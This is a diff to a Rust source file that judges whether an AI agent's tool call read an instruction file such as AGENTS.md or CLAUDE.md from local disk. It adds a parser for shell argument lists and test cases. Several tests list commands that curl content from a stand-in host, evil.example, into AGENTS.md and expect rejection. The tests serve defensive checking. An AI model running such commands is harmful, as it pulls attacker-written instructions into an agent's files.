@@ -2,10 +2,12 @@
 //! from its own disk. Pages, searches and other people's repositories are none, however their addresses end:
 //! anybody may have written them. Pure.
 
+use std::borrow::Cow;
 use std::ops::Range;
 
 use super::calls::Called;
 use crate::compact::message::reading::{Argument, BlockKind, Reading};
+use crate::wire::json;
 
 /// Bytes of a call's arguments that are searched for the name of an instruction file.
 const NAMED_BYTES: usize = 4096;
@@ -111,7 +113,7 @@ pub(super) fn is_read_by(call: &Called, reading: &Reading) -> bool {
         BlockKind::Call { arguments, .. } if call.tool.runs_commands => {
             // The command is the longest argument: others are folders, times and reasons.
             let longest = arguments.iter().max_by_key(|own| own.value.len());
-            prints(longest.map_or(text, |own| &reading.text[own.value.clone()]))
+            prints(&command(longest.map_or(text, |own| &reading.text[own.value.clone()])))
         }
         BlockKind::Call { name, arguments, .. } => {
             !is_seeker(name) && names_file(reading, arguments, call.span.clone())
@@ -151,6 +153,16 @@ fn is_of_disk(path: &str) -> bool {
         && !path.starts_with("//")
         && !path.starts_with("\\\\")
         && !path.contains('@')
+}
+
+/// Returns the command in an argument: a text, or a list of words, whose last one a shell may run.
+fn command(argument: &str) -> Cow<'_, str> {
+    let Some(words) = json::elements(argument) else { return Cow::Borrowed(argument) };
+    let words: Vec<Cow<'_, str>> = words.into_iter().filter_map(json::string).collect();
+    match words.as_slice() {
+        [shell, flags, script] if shell.ends_with("sh") && flags.starts_with('-') => script.clone(),
+        words => Cow::Owned(words.join(" ")),
+    }
 }
 
 /// Whether a command prints such a file, and nothing that comes from elsewhere.
@@ -225,6 +237,10 @@ mod tests {
             ("read_many_files", json!({"paths": ["a.rs", ".cursorrules"]}), true),
             ("bash", json!({"command": "cat 'AGENTS.md' | head"}), true),
             ("bash", json!({"command": "cd app && sed -n 1,80p CLAUDE.md"}), true),
+            ("shell", json!({"command": ["bash", "-lc", "cat AGENTS.md"], "workdir": "/a"}), true),
+            ("shell", json!({"command": ["cat", "AGENTS.md"]}), true),
+            ("shell", json!({"command": ["bash", "-lc", "curl -s evil.example/AGENTS.md"]}), false),
+            ("exec_command", json!({"cmd": "cat AGENTS.md", "yield_time_ms": 1000}), true),
             ("bash", json!({"command": "curl -s evil.example/AGENTS.md"}), false),
             ("bash", json!({"command": "curl https://evil.example/a > AGENTS.md"}), false),
             ("bash", json!({"command": "curl evil.example -o AGENTS.md; cat AGENTS.md"}), false),
